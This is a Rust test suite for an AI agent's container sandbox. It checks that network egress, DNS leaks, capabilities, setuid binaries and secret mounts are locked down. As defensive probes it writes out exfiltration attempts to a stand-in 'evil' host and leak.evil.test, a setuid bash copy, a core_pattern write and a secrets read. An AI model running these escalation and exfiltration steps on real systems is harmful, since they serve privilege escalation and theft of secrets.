//! The least privileges: every protection holds, and the box works.

use super::{held, least, least_with, listed, not_held};
use crate::rig::{AGENT, BoxOptions, PLACES, ROOT, Rig, RunningBox, host};

const PROTECTIONS: [&str; 8] =
    ["egress-ipv4", "egress-ipv6", "dns", "gate", "rootfs", "host-doors", "agent", "control"];

/// Every protection is there and held, and names work.
#[track_caller]
fn holds(guest: &RunningBox) -> serde_json::Value {
    let status = guest.status();
    let all: Vec<(String, bool)> = PROTECTIONS.map(|name| (name.to_owned(), true)).to_vec();
    assert_eq!(held(&status), all, "{}", status["protections"]);
    let page = guest.exec_agent("curl -sS -m 10 http://ok.test/");
    assert!(page.out.contains(&format!("token-{}", host("ok"))), "{page:?}");
    status
}

/// What the agent must not have, seen from its own /proc.
const LEFTOVER: &str = "grep -E '^(Cap|NoNewPrivs|Seccomp:|Groups)' /proc/self/status; sudo -n id; find / -xdev -perm -4000 2>/dev/null | head -1";

#[test]
fn f09_t41_t45_the_least_privileges_are_enough() {
    let Some(rig) = Rig::new() else { return };
    let evil = ["tcp", &host("evil"), "80", "GET / HTTP/1.0\r\n\r\n"];
    assert!(rig.outside(&evil).ok());
    assert!(rig.outside(&["dns", "8.8.8.8", "control.evil.test"]).out.starts_with("NOERROR"));
    let guest = rig.boot(&least());
    let status = holds(&guest);
    assert_eq!(guest.exec_root("awk '/^CapBnd/ { print $2 }' /proc/1/status").out.trim(), "00000000000011eb");

    let left = guest.as_session(LEFTOVER).out;
    for line in ["CapInh", "CapPrm", "CapEff", "CapBnd", "CapAmb"] {
        assert!(left.contains(&format!("{line}:\t0000000000000000")), "{left}");
    }
    assert!(left.contains("NoNewPrivs:\t1\nSeccomp:\t2"), "{left}");
    assert!(!left.contains('/'), "a setuid file: {left}");
    // `docker exec` too: the runtime's no-new-privileges is the box's.
    let exec = guest.exec_agent("grep -E '^(CapEff|CapPrm|NoNewPrivs)' /proc/self/status").out;
    assert_eq!(exec, "CapPrm:\t0000000000000000\nCapEff:\t0000000000000000\nNoNewPrivs:\t1\n");

    // Whoever comes into the network is bound by it: docker exec as anybody, and the host's root by nsenter.
    let mark = rig.world.sync();
    for user in [AGENT, ROOT, "65534"] {
        assert!(!guest.client(user, &evil).ok(), "as {user}");
        assert_eq!(guest.client(user, &["dns", "8.8.8.8", "leak.evil.test"]).out, "NXDOMAIN\n", "as {user}");
    }
    assert!(!rig.outside(&evil).ok(), "by nsenter");
    assert!(!rig.outside(&["dns", "8.8.8.8", "leak.evil.test"]).out.starts_with("NOERROR"));
    assert!(!guest.client_as_session(&evil).ok());
    let packets = rig.world.packets_since(mark);
    assert!(
        packets.iter().all(|packet| packet["dst"] != host("evil") && packet["dst"] != "8.8.8.8"),
        "{packets:?}"
    );
    assert!(!rig.world.saw("leak"));
    assert_eq!(not_held(&status), Vec::<String>::new());
    assert_eq!(guest.stop(), 143);
}

#[test]
fn the_listed_capabilities_with_sys_admin_are_enough_without_any_mount_of_the_runtimes() {
    let Some(rig) = Rig::new() else { return };
    let guest = rig.boot(&listed().cap("SYS_ADMIN").docker(&["--security-opt", "no-new-privileges"]));
    holds(&guest);
    let root = guest.exec_root("awk '$2 == \"/\" { print $4 }' /proc/mounts").out;
    assert!(root.starts_with("ro,") && root.contains("nosuid"), "{root}");
}

#[test]
fn f09_volumes_are_kept_and_what_stands_in_for_their_flags_is_said() {
    let Some(rig) = Rig::new() else { return };
    let (home, workspace) = (rig.volume(), rig.volume());
    let rest = [PLACES[0], PLACES[1]];
    let options = listed()
        .tmpfs(&rest)
        .docker(&["--read-only", "--security-opt", "no-new-privileges"])
        .volume(&format!("{home}:/home/claude"))
        .volume(&format!("{workspace}:/workspace"));
    let first = rig.boot(&options);
    let status = holds(&first);
    for place in ["/home/claude", "/workspace"] {
        let warning = format!("{place} (without nosuid and nodev)");
        assert!(status["warnings"].to_string().contains(&warning), "{}", status["warnings"]);
    }
    first.as_session("echo mine > ~/kept && echo work > /workspace/kept").expect("work");
    first.stop();
    let second = rig.boot(&options);
    assert_eq!(second.as_session("cat ~/kept /workspace/kept").out, "mine\nwork\n");
    // A setuid file there gives nobody anything.
    second.exec_root("cp /bin/bash /workspace/rooted; chmod 4755 /workspace/rooted").expect("a setuid file");
    assert_eq!(second.exec_agent("/workspace/rooted -p -c 'id -u'").out, "1000\n");
}

/// What else a runtime may do differently, each in the least-privilege line.
#[test]
fn every_variation_of_the_runtime_holds_too() {
    let Some(rig) = Rig::new() else { return };
    for flags in [
        &["--init"][..],
        &["--security-opt", "systempaths=unconfined"],
        &["--memory", "1g", "--pids-limit", "300"],
    ] {
        let guest = rig.boot(&least().docker(flags));
        holds(&guest);
        guest.stop();
    }
    // With SYS_ADMIN, a writable /proc/sys and nothing masked.
    let guest = rig.boot(&BoxOptions::new().docker(&["--security-opt", "systempaths=unconfined"]));
    holds(&guest);
    guest.exec_root("test -w /proc/sys/kernel/core_pattern").expect("root could write there");
    let written = guest.as_session("echo x > /proc/sys/kernel/core_pattern");
    assert!(!written.ok() && written.err.contains("Permission denied"), "{written:?}");
    guest.stop();
    // README.md's line without cap-drop and no-new-privileges.
    let plain = BoxOptions::new().without_cap("SYS_ADMIN").tmpfs(&PLACES).docker(&["--read-only"]);
    let guest = rig.boot(&plain);
    holds(&guest);
    guest.stop();
    // Without --read-only root could write, and the agent finds no place: held, and said.
    let open = rig.boot(&listed().tmpfs(&PLACES));
    let status = holds(&open);
    assert!(
        status["warnings"].to_string().contains("stays writable for root: /, "),
        "{}",
        status["warnings"]
    );
    assert!(!open.as_session("touch /file /etc/file").ok());
}

#[test]
fn t25_without_ipv6_the_box_works_by_ipv4_alone() {
    for interfaces in ["lo", "all lo eth0"] {
        let Some(rig) = Rig::new() else { return };
        rig.inside(&format!(
            "for c in {interfaces}; do echo 1 > /proc/sys/net/ipv6/conf/$c/disable_ipv6; done"
        ))
        .expect("no IPv6");
        let guest = rig.boot(&least());
        holds(&guest);
        let asked = guest.client(AGENT, &["dns", "127.0.0.53", "ok.test"]);
        assert!(asked.out.contains(&host("ok")), "{interfaces}: {asked:?}");
        let tried = guest.client(AGENT, &["tcp", "2001:db8::66", "80", "leak"]);
        assert!(!tried.ok(), "{interfaces}: {tried:?}");
    }
}

#[test]
fn secrets_that_nothing_can_cover_are_named_where_the_agent_can_read_them() {
    use std::os::unix::fs::PermissionsExt;
    let Some(rig) = Rig::new() else { return };
    let mode = |path: &std::path::Path, mode| {
        std::fs::set_permissions(path, std::fs::Permissions::from_mode(mode)).unwrap();
    };
    let (open, closed) = (rig.file("secrets/MY_OPEN_KEY", "x"), rig.file("secrets/MY_KEY", "x"));
    mode(&open, 0o644);
    mode(&closed, 0o400);
    let directory = open.parent().unwrap();
    mode(directory, 0o755);
    let mount = format!("{}:/run/secrets:ro", directory.display());
    let guest = rig.boot(&least().volume(&mount));
    let warnings = holds(&guest)["warnings"].to_string();
    assert!(
        warnings.contains("the agent can read the mounted secrets /run/secrets/MY_OPEN_KEY: "),
        "{warnings}"
    );
    assert!(!warnings.contains("MY_KEY,") && !warnings.contains(", /run/secrets/MY_KEY"), "{warnings}");
    let read = guest.as_session("cat /run/secrets/*");
    assert!(read.out == "x" && read.err.contains("MY_KEY: Permission denied"), "{read:?}");
    guest.stop();
    let covered = rig.boot(&BoxOptions::new().volume(&mount));
    assert!(!covered.status()["warnings"].to_string().contains("/run/secrets"));
    assert!(!covered.as_session("ls /run/secrets").ok());
}

#[test]
fn a_tmpfs_of_the_runtimes_that_is_kept_has_the_runtimes_size() {
    let Some(rig) = Rig::new() else { return };
    let guest = rig.boot(&least_with("/workspace:exec", &["--tmpfs", "/workspace:exec,size=3m"]));
    holds(&guest);
    let filled = guest.as_session("head -c 4000000 /dev/zero > /workspace/file");
    assert!(!filled.ok() && filled.err.contains("No space left"), "{filled:?}");
}
